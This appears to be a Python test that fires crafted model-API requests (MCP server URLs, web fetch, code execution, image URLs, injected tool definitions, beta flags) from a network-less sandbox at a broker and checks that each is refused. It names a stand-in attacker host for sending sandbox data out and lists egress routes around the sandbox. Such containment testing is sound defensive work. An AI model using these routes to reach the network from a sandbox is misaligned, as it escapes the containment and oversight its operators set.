"""The model API's own tools, from a sandbox without a network: each would be a way to the internet and back."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from tests.attack.attack import Attack, Field, Found, counted
from tests.attack.force.material import request
from tests.attack.scene import exert

OUT = "https://attacker.invalid/?q=what-the-sandbox-knows"
IMAGE = {"type": "image", "source": {"type": "url", "url": OUT}}

BODIES: Mapping[str, Any] = {
    "mcp_servers": {"mcp_servers": [{"type": "url", "url": OUT, "name": "x", "authorization_token": "t"}]},
    "container": {"container": {"skills": [{"type": "anthropic", "skill_id": "pdf", "version": "latest"}]}},
    "web_search": {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
    "web_fetch": {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    "code_execution": {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
    "a tool of tomorrow": {"tools": [{"type": "browser_20300101", "name": "browser"}]},
    "a field of tomorrow": {"tunnel": OUT},
    "an image's address": {"messages": [{"role": "user", "content": [IMAGE]}]},
    "a file": {
        "messages": [
            {
                "role": "user",
                "content": [{"type": "document", "source": {"type": "file", "file_id": "file_1"}}],
            }
        ]
    },
    "a tool in a message": {
        "messages": [
            {
                "role": "system",
                "content": [
                    {
                        "type": "tool_addition",
                        "tool": {
                            "type": "tool_definition",
                            "definition": {"type": "web_fetch_20250910", "name": "web_fetch"},
                        },
                    }
                ],
            }
        ]
    },
}
FLAGS = (
    "mcp-client-2025-11-20",
    "web-fetch-2025-09-10",
    "code-execution-2025-08-25",
    "files-api-2025-04-14",
    "tunnel-2030-01-01",
)
REFUSAL = "is not let through to the model's API", "makes the model's API reach the network"


def forms(token: str) -> Mapping[str, str]:
    """Requests by what they would have the API do."""
    found = {}
    for what, fields in BODIES.items():
        body = json.dumps({"model": "m", "max_tokens": 9, "messages": [], **fields})
        for path in ("/v1/messages", "/v1/messages/count_tokens?beta=true"):
            found[f"{what} at {path}"] = _request(path, token, body)
    for flag in FLAGS:
        found[flag] = _request(
            "/v1/messages", token, "{}", {"anthropic-beta": f"claude-code-20250219,{flag}"}
        )
    return found


def _request(path: str, token: str, body: str, headers: Mapping[str, str] | None = None) -> str:
    head = {
        "x-api-key": token,
        "Content-Type": "application/json",
        "Content-Length": str(len(body)),
        "Connection": "close",
        **(headers or {}),
    }
    return request("POST", path, head, body.encode()).decode("latin-1")


async def api_tools(field: Field) -> Found:
    """Each is refused by the broker itself, with its sentence: what the API would say to it counts as through."""
    async with field.session(warm=True) as session:
        asked = forms(await field.scene.sandbox_token(session))
        seen = await exert(
            field.scene.gates["broker"],
            "fire",
            seconds=max(field.size.seconds, 10.0),
            requests=list(asked.values()),
            count=len(asked),
            rate=100.0,
            at_once=4,
            reads=True,
        )
    faults = []
    for index, what in enumerate(asked):
        said = seen["said"].get(str(index), "")
        if not (said.startswith("HTTP/1.1 403 ") and any(refusal in said for refusal in REFUSAL)):
            faults.append(f"{what} was answered with {said[-200:]!r}")
    return Found(f"{len(asked)} forms: {counted(seen['answers'])}", faults)


ATTACKS = [Attack("the API's own tools", "web, code, MCP, files at broker", "broker", api_tools)]
